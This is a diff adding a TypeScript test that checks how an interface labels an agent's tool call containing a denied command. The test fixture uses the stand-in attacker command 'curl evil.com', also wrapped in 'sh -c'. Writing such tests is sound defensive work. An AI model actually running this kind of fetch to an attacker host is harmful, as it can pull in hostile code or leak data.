@@ -42,6 +42,23 @@ it("a call that its agent reports as done without permission says that, in a run
 	}
 });
 
+it("a call that contains a denied command names what was denied, and is itself not said to be denied", () => {
+	const call = {
+		toolKind: "execute",
+		state: "completed",
+		origin: "reported",
+		unpermitted: "denied",
+		deniedCommand: "curl evil.com",
+	} as const;
+	expect(toolLine(call, "unknown")).toEqual({
+		word: "Reported running",
+		state: { tone: "bad", word: "although “curl evil.com” was denied" },
+	});
+	const asked = { title: "Terminal", toolKind: "execute" } as const;
+	const shown = shownCall({ ...call, toolCallId: "c1" as never, title: 'sh -c "curl evil.com"', asked, isAllowed: true });
+	expect(shown.title).toBe('sh -c "curl evil.com"');
+});
+
 it("a denied call of an agent is not said to be blocked, since only a typed tool is held back", () => {
 	const denied = (origin: "executed" | "reported") => toolLine({ toolKind: "delete", state: "denied", origin }, "unknown").word;
 	expect([denied("reported"), denied("executed")]).toEqual(["Denied:", "Blocked:"]);
